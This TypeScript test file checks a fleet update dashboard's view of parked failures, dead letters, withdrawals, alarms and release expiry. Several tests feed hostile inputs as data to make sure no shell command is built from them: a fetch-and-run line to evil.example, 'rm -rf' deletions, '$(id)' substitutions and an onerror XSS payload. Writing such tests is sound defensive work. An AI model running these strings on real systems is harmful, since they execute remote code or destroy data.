import { test } from "uvu";
import * as assert from "uvu/assert";
import { QUEUE_ROLE, withdrawalsCommand } from "../../../../contracts/dashboard-documents.js";
import { alarmChanges, alarmsChangedSince, deadLetterCommand, expiryWarnings, owedWithdrawals, parkedCommand, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
import { otaReportSchema } from "../../../../telemetry/schema.js";
import { campaignSummary, compositeAlarm, deadLetterMessage, metricAlarm, needsAHandInput, parkedFailure } from "./support/factories.js";

const now = new Date("2026-11-26T18:00:00.000Z");
const minutesAgo = (minutes: number) => new Date(now.getTime() - minutes * 60_000);
const alarms = { metricAlarms: [metricAlarm({ StateValue: "ALARM", StateUpdatedTimestamp: minutesAgo(4), StateReason: "Threshold Crossed" })], compositeAlarms: [] };

test("lists parked failures newest first with their remedy and the fleetota command", () => {
  const doc = shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now);

  assert.equal(doc.parked.items.map((item) => item.reason), ["invalid-update-message", "object-missing"]);
  assert.is(doc.parked.items[1]!.command, "fleetota parked --source telemetry-processor --reason object-missing");
  assert.match(doc.parked.items[1]!.remedy, /upload it again/);
  assert.equal(doc.parked.byReason.map((entry) => [entry.reason, entry.records, entry.messages]), [["invalid-update-message", 1, 1], ["object-missing", 1, 1]]);
  assert.equal([doc.parked.total, doc.parked.complete, doc.parked.retentionDays], [2, true, 90]);
});

test("counts parked failures by source and reason: the messages a counted record stands for, the newest, when the oldest expires, the command", () => {
  const at = (minutes: number) => minutesAgo(minutes).toISOString();
  const failures = [
    parkedFailure({ id: "a", source: "update-manager", reason: "other-vehicle", parkedAt: at(60), count: 40, lastParkedAt: at(3) }, now),
    parkedFailure({ id: "b", source: "update-manager", reason: "other-vehicle", parkedAt: at(3 * 24 * 60), count: 7, lastParkedAt: at(2 * 24 * 60) }, now),
    parkedFailure({ id: "c", source: "telemetry-processor", reason: "object-missing", parkedAt: at(10) }, now),
    parkedFailure({ id: "d", source: "telemetry-processor", reason: "object-missing", parkedAt: at(20) }, now),
    parkedFailure({ id: "e", source: "update-manager", reason: "image-targets-unverifiable", parkedAt: at(5), count: Number.NaN }, now),
  ];

  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures, complete: true }, parkedRetentionDays: 30 }, undefined, now);

  assert.equal(
    doc.parked.byReason.map((entry) => [entry.source, entry.reason, entry.records, entry.messages, entry.newestAt, entry.oldestAt, entry.command]),
    [
      ["update-manager", "other-vehicle", 2, 47, at(3), at(3 * 24 * 60), "fleetota parked --source update-manager --reason other-vehicle"],
      ["telemetry-processor", "object-missing", 2, 2, at(10), at(20), "fleetota parked --source telemetry-processor --reason object-missing"],
      ["update-manager", "image-targets-unverifiable", 1, 1, at(5), at(5), "fleetota parked --source update-manager --reason image-targets-unverifiable"],
    ],
  );
  // S3 expires an object the given days after it was written, at the next midnight UTC.
  assert.is(doc.parked.byReason[0]!.oldestExpiresAt, "2026-12-24T00:00:00.000Z");
  assert.match(doc.parked.byReason[2]!.remedy, /fleetota release refresh/);
  assert.is(doc.parked.retentionDays, 30);
  assert.equal([doc.parked.total, doc.parked.messages], [5, 50], "5 records standing for 50 messages: what the status line counts");
  assert.equal(doc.parked.items.find((item) => item.id === "a")!.count, 40);
  assert.is(doc.parked.items.find((item) => item.id === "c")!.count, undefined);
});

test("counts from a listing that stopped at its page budget are 'at least' (complete false), however few were read", () => {
  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures: [parkedFailure({}, now)], complete: false } }, undefined, now);

  assert.equal([doc.parked.total, doc.parked.complete], [1, false]);
});

test("never offers a parked command with a source or reason that is not one of the known words (a record is read back from the bucket)", () => {
  const hostile = ["x; curl -s https://evil.example/x | sh", "$(id)", "`id`", "object-missing --all", "--source", "a|sh", "<img src=x onerror=alert(1)>", "object\u202e-missing", "Object-Missing", "a".repeat(65), "-x", "x-", ""];
  for (const reason of hostile) {
    assert.is(parkedCommand({ source: "update-manager", reason }), "fleetota parked --source update-manager", reason);
    assert.is(parkedCommand({ source: reason, reason: "object-missing" }), "fleetota parked --reason object-missing", reason);
    const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures: [parkedFailure({ reason }, now)] } }, undefined, now);
    assert.equal([doc.parked.items[0]!.command, doc.parked.byReason[0]!.command], ["fleetota parked --source telemetry-processor", "fleetota parked --source telemetry-processor"], reason);
  }
  assert.is(parkedCommand({ source: "telemetry-processor", reason: "object-missing" }), "fleetota parked --source telemetry-processor --reason object-missing");
});

test("says why each dead letter is there and which command deals with it", () => {
  const doc = shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now);
  const [telemetry, update] = doc.deadLetters.items;

  assert.match(telemetry!.reason, /^s3:\/\/fleetota-dev-data\/telemetry\/vehicle\/1HGCM82633A004352\/a\.ndjson\.gz: the telemetry processor failed/);
  assert.equal([telemetry!.kind, telemetry!.command, telemetry!.campaignId], ["processing-failed", "fleetota redrive --queue telemetry", null]);
  assert.is(deadLetterCommand(QUEUE_ROLE.TelemetryDeadLetter, { errorKind: "invalid-message", campaignId: "c-1" }), "fleetota redrive --queue telemetry --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
  assert.equal([update!.kind, update!.reason, update!.receiveCount], ["processing-failed", "ProvisionedThroughputExceededException after 5 tries", 6]);
  assert.is(update!.command, "fleetota redrive --campaign c-20261126T140000-1a2b3c4d");
  assert.is(deadLetterCommand(QUEUE_ROLE.UpdateDeadLetter, { errorKind: "invalid-json" }), "fleetota redrive --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
  assert.is(shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.UpdateDeadLetter, visible: 1, messages: [deadLetterMessage("not json")] }] }, undefined, now).deadLetters.items[0]!.kind, "invalid-json");
  // A command's dead letter goes back to the command queue, the only queue the update manager takes commands from.
  const pause = JSON.stringify({ kind: "command", idempotencyKey: "cmd:p", command: "pause", campaignId: "c-20261126T140000-1a2b3c4d", requestedBy: "alice", requestedAt: "2026-11-26T14:00:00Z" });
  const command = shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.CommandDeadLetter, visible: 1, messages: [deadLetterMessage(pause)] }] }, undefined, now).deadLetters.items[0]!;
  assert.equal([command.kind, command.command], ["processing-failed", "fleetota redrive --queue commands --campaign c-20261126T140000-1a2b3c4d"]);
  assert.is(deadLetterCommand(QUEUE_ROLE.CommandDeadLetter, { errorKind: "invalid-json" }), "fleetota redrive --queue commands --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
});

test("never offers a command with a campaign id the shell would read as more (a vehicle's report names it)", () => {
  // A vehicle writes its status report's campaign id itself, and the telemetry schema takes any printable text.
  const hostile = ["c-1; curl -s https://evil.example/x | sh", "c-1 && rm -rf ~", "$(id)", "`id`", "c-1|sh", "--queue telemetry", "c-1 #", "c-1'", '"c-1"', "c-1\u202e"];
  const ota = (campaignId: string) => ({ jobId: `${campaignId}:1HGCM82633A004352`, campaignId, attempt: 1, sequence: 1, status: "FAILED", targetVersion: "2.5.0" });
  for (const campaignId of hostile) assert.ok(otaReportSchema.safeParse(ota(campaignId)).success, `the processor takes ${campaignId}`);
  const report = (campaignId: string) => ({ kind: "status-report", idempotencyKey: `${campaignId}:1HGCM82633A004352#1#1`, vin: "1HGCM82633A004352", campaignId, jobId: `${campaignId}:1HGCM82633A004352`, attempt: 1, sequence: 1, status: "FAILED", firmwareVersion: "2.4.0", reportedAt: now.toISOString() });
  const commands = (campaignId: string) =>
    shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.UpdateDeadLetter, visible: 1, messages: [deadLetterMessage(report(campaignId))] }] }, undefined, now).deadLetters.items.map((item) => item.command);

  for (const campaignId of hostile) assert.equal(commands(campaignId), ["fleetota redrive"], campaignId);
  assert.equal(commands("c-20261126T140000-1a2b3c4d"), ["fleetota redrive --campaign c-20261126T140000-1a2b3c4d"]);
  assert.equal(commands("c-1"), ["fleetota redrive --campaign c-1"]);
});

test("lists the campaigns that owe withdrawals, most owed first, with the command and the withdrawals-failed alarm's state", () => {
  const campaigns = [
    campaignSummary({ campaignId: "c-running", withdrawalsOwed: 0 }),
    campaignSummary({ campaignId: "c-canceled", name: "Brakes 2.5", state: "CANCELED", withdrawalsOwed: 2 }),
    campaignSummary({ campaignId: "c-aborted", name: "Seats 1.2", state: "aborted", withdrawalsOwed: 9 }),
    campaignSummary({ campaignId: "c-old-record" }),
    campaignSummary({ campaignId: "c-drifted", withdrawalsOwed: -1 }),
  ];
  const withAlarm = { metricAlarms: [...alarms.metricAlarms, metricAlarm({ AlarmName: "fleetota-dev-withdrawals-failed", StateValue: "ALARM" })], compositeAlarms: [] };

  const doc = shapeNeedsAHand({ ...needsAHandInput(now, withAlarm), campaigns }, undefined, now);

  assert.equal(doc.withdrawals!.campaigns.map((entry) => [entry.campaignId, entry.name, entry.state, entry.owed, entry.command]), [
    ["c-aborted", "Seats 1.2", "ABORTED", 9, "fleetota campaign show c-aborted"],
    ["c-canceled", "Brakes 2.5", "CANCELED", 2, "fleetota campaign show c-canceled"],
  ]);
  assert.equal([doc.withdrawals!.total, doc.withdrawals!.omitted], [11, 0]);
  assert.equal(doc.withdrawals!.alarm, { name: "fleetota-dev-withdrawals-failed", state: "ALARM" });
  assert.is(owedWithdrawals([], alarms).alarm, null);
  assert.is(shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now).withdrawals, undefined, "campaigns not read: no part");
});

test("never offers a campaign command with an id the shell would read as more", () => {
  for (const campaignId of ["c-1; curl -s https://evil.example/x | sh", "$(id)", "--all", "c-1\u202e", '<img src=x onerror="alert(1)">', ""]) {
    assert.is(withdrawalsCommand(campaignId), "fleetota campaign list", campaignId);
    const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), campaigns: [campaignSummary({ campaignId, withdrawalsOwed: 1 })] }, undefined, now);
    assert.is(doc.withdrawals!.campaigns[0]!.command, "fleetota campaign list", campaignId);
  }
});

test("keeps every part it could read and names the one it could not", () => {
  const doc = shapeNeedsAHand(
    { ...needsAHandInput(now, alarms), parked: { error: "AccessDenied" }, deadLetters: [{ queue: QUEUE_ROLE.TelemetryDeadLetter, error: "QueueDoesNotExist" }] },
    undefined,
    now,
  );

  assert.equal(doc.errors, ["parked failures: AccessDenied", "telemetry-dlq: QueueDoesNotExist"]);
  assert.is(doc.alarmChanges.length, 1);
});

test("uses CloudWatch's alarm history when there is one, newest first, within a day", () => {
  const item = (minutes: number, state: string) => ({
    AlarmName: "fleetota-dev-update-failure-rate",
    Timestamp: minutesAgo(minutes),
    HistoryItemType: "StateUpdate" as const,
    HistoryData: JSON.stringify({ newState: { stateValue: state, stateReason: `went ${state}` } }),
  });

  const { changes, source } = alarmChanges({ alarms, alarmHistory: [item(30, "OK"), item(10, "ALARM"), item(25 * 60, "ALARM")] }, undefined, now);

  assert.is(source, "alarm-history");
  assert.equal(changes.map((change) => [change.state, change.reason]), [["ALARM", "went ALARM"], ["OK", "went OK"]]);
});

test("without alarm history, keeps the changes it observed run after run", () => {
  const first = shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now);
  const later = new Date(now.getTime() + 10 * 60_000);
  const recovered = { metricAlarms: [metricAlarm({ StateValue: "OK", StateUpdatedTimestamp: new Date(now.getTime() + 8 * 60_000), StateReason: "back to normal" })], compositeAlarms: [] };

  const second = shapeNeedsAHand(needsAHandInput(later, recovered), first, later);

  assert.is(second.alarmChangesSource, "observed");
  assert.equal(second.alarmChanges.map((change) => [change.state, change.reason]), [["OK", "back to normal"], ["ALARM", "Threshold Crossed"]]);
});

test("asks for the history only of alarms whose state changed within the window (or whose update time is unknown)", () => {
  const since = minutesAgo(24 * 60);
  const alarmsRead = [
    metricAlarm({ AlarmName: "changed-an-hour-ago", StateUpdatedTimestamp: minutesAgo(60) }),
    metricAlarm({ AlarmName: "changed-two-days-ago", StateUpdatedTimestamp: minutesAgo(48 * 60) }),
    metricAlarm({ AlarmName: "changed-exactly-at-the-edge", StateUpdatedTimestamp: since }),
    compositeAlarm({ AlarmName: "composite-never-told" }),
    metricAlarm({ AlarmName: undefined, StateUpdatedTimestamp: minutesAgo(1) }),
  ];

  assert.equal(alarmsChangedSince(alarmsRead, since), ["changed-an-hour-ago", "changed-exactly-at-the-edge", "composite-never-told"]);
  assert.equal(alarmsChangedSince([metricAlarm({ StateUpdatedTimestamp: minutesAgo(25 * 60) })], since), []);
});

// ── the release calendar ──────────────────────────────────────────────────────────────────────

const DAY = 86_400_000;
const inDays = (days: number) => new Date(now.getTime() + days * DAY).toISOString();

test("release calendar: under 7 days a line with the days left and the command; 8 days none; expired a line saying so", () => {
  const published = [
    { what: "image targets", version: 4, expires: inDays(6.5) },
    { what: "director root", version: 2, expires: inDays(8) },
    { what: "image root", version: 1, expires: inDays(-0.5) },
  ] as const;

  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published } }, undefined, now);

  assert.equal(doc.expiry.warnings.map((warning) => warning.line), [
    "image root 1 EXPIRED at 2026-11-26T06:00:00.000Z: vehicles refuse it",
    "image targets 4 expire in 6 days (2026-12-03T06:00:00.000Z)",
  ]);
  assert.match(doc.expiry.warnings[1]!.remedy, /^fleetota release refresh --key /);
  assert.match(doc.expiry.warnings[0]!.remedy, /^fleetota keys rotate-image-root --image-root-key /);
  assert.equal([doc.expiry.readAt, doc.expiry.published.length], [now.toISOString(), 3]);
  assert.equal(expiryWarnings([{ what: "director root", version: 3, expires: inDays(6.9) }], now).map((warning) => warning.remedy.split(" ").slice(0, 3).join(" ")), ["fleetota keys rotate-director"]);
  assert.equal(expiryWarnings([{ what: "director root", version: 3, expires: inDays(7) }], now), []);
});

test("release calendar: between reads the last one is carried and its days counted again; a failed read is named and keeps it", () => {
  const read = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 4, expires: inDays(7.01) }] } }, undefined, now);
  assert.equal(read.expiry.warnings, []);

  const later = new Date(now.getTime() + 0.02 * DAY);
  const carried = shapeNeedsAHand({ ...needsAHandInput(later, alarms), expiry: undefined }, read, later);
  const failed = shapeNeedsAHand({ ...needsAHandInput(later, alarms), expiry: { error: "AccessDenied" } }, read, later);

  for (const doc of [carried, failed]) {
    assert.is(doc.expiry.readAt, now.toISOString());
    assert.equal(doc.expiry.warnings.map((warning) => [warning.version, warning.daysLeft]), [[4, 6]]);
  }
  assert.ok(failed.errors.includes("release calendar: AccessDenied"));
});

test("release calendar: no text of the metadata, a previous document or a vehicle reaches the line; only a kind, a version and a re-written date", () => {
  const hostile = "2026-11-27T00:00:00Z; curl https://evil.example | sh <img src=x onerror=alert(1)>";
  const input = { ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 5, expires: hostile }] } } as const;
  const doc = shapeNeedsAHand(input, undefined, now);
  assert.equal(doc.expiry.warnings.map((warning) => warning.line), ["image targets 5 EXPIRED (unreadable date): vehicles refuse it"]);

  const forgedPrevious = { ...doc, expiry: { readAt: now.toISOString(), published: [{ what: "rm -rf / #" as never, version: 1, expires: inDays(1) }, { what: "image root" as const, version: 1.5, expires: inDays(1) }], warnings: [] } };
  assert.equal(shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: undefined }, forgedPrevious, now).expiry, { readAt: now.toISOString(), published: [], warnings: [] });

  const text = JSON.stringify(doc.expiry);
  for (const part of ["curl", "onerror", "evil", ...doc.parked.items.map((item) => item.detail)]) assert.not.ok(text.includes(part), part);
});

// ── job documents held: the image targets do not verify, or expired ───────────────────────────

const unverifiable = { targetsVersion: 3, imageRootVersion: 2, verifies: false, kind: "BELOW_THRESHOLD", message: "targets 3: 0 of 2 signatures by release keys of root 2", refreshAllowed: true };

test("job documents wait while the image targets do not verify: the line, the refresh command, and the documents parked for it", () => {
  const failures = [
    parkedFailure({ id: "u1", source: "update-manager", reason: "image-targets-unverifiable", count: 12 }, now),
    parkedFailure({ id: "u2", source: "update-manager", reason: "image-targets-unverifiable" }, now),
  ];

  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures }, targetsCheck: { check: unverifiable } }, undefined, now);

  assert.equal(doc.targets!.held, {
    cause: "image-targets-unverifiable",
    line: "image targets 3 do not verify under image root 2 (BELOW_THRESHOLD: targets 3: 0 of 2 signatures by release keys of root 2): the update manager publishes no job document, vehicles refuse them",
    command: "fleetota release refresh --key <release key>",
    parkedMessages: 13,
  });
  assert.is(doc.targets!.check!.checkedAt, now.toISOString());
  const notNamed = shapeNeedsAHand({ ...needsAHandInput(now, alarms), targetsCheck: { check: { ...unverifiable, refreshAllowed: false } } }, undefined, now);
  assert.is(notNamed.targets!.held!.command, "fleetota release status");
});

test("job documents wait while the image targets have expired, though their signatures verify", () => {
  const published = [{ what: "image targets", version: 4, expires: inDays(-0.5) }] as const;
  const verifies = { targetsVersion: 4, imageRootVersion: 1, verifies: true, kind: null, message: null, refreshAllowed: false };

  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published }, targetsCheck: { check: verifies } }, undefined, now);

  assert.equal([doc.targets!.held!.cause, doc.targets!.held!.command, doc.targets!.held!.line], ["image-targets-expired", "fleetota release refresh --key <release key>", "image targets 4 expired at 2026-11-26T06:00:00.000Z: the update manager publishes no job document, vehicles refuse them"]);
  assert.is(shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 4, expires: inDays(3) }] }, targetsCheck: { check: verifies } }, undefined, now).targets!.held, null);
});

test("the last check is carried between checks, a failed check is named and keeps it, and a forged previous check is dropped", () => {
  const checked = shapeNeedsAHand({ ...needsAHandInput(now, alarms), targetsCheck: { check: unverifiable } }, undefined, now);
  const later = new Date(now.getTime() + 60_000);

  const carried = shapeNeedsAHand({ ...needsAHandInput(later, alarms) }, checked, later);
  const failed = shapeNeedsAHand({ ...needsAHandInput(later, alarms), targetsCheck: { error: "AccessDenied" } }, checked, later);
  const forged = { ...checked, targets: { check: { ...checked.targets!.check!, targetsVersion: "3; rm -rf ~" as never }, held: null } };

  for (const doc of [carried, failed]) assert.equal([doc.targets!.check!.checkedAt, doc.targets!.held!.cause], [now.toISOString(), "image-targets-unverifiable"]);
  assert.ok(failed.errors.includes("image targets check: AccessDenied"));
  assert.equal(shapeNeedsAHand(needsAHandInput(later, alarms), forged, later).targets, { check: null, held: null });
  assert.equal(shapeNeedsAHand({ ...needsAHandInput(now, alarms), targetsCheck: { check: { ...unverifiable, message: "x".repeat(5_000) } } }, undefined, now).targets!.check!.message!.length, 300);
});

test.run();
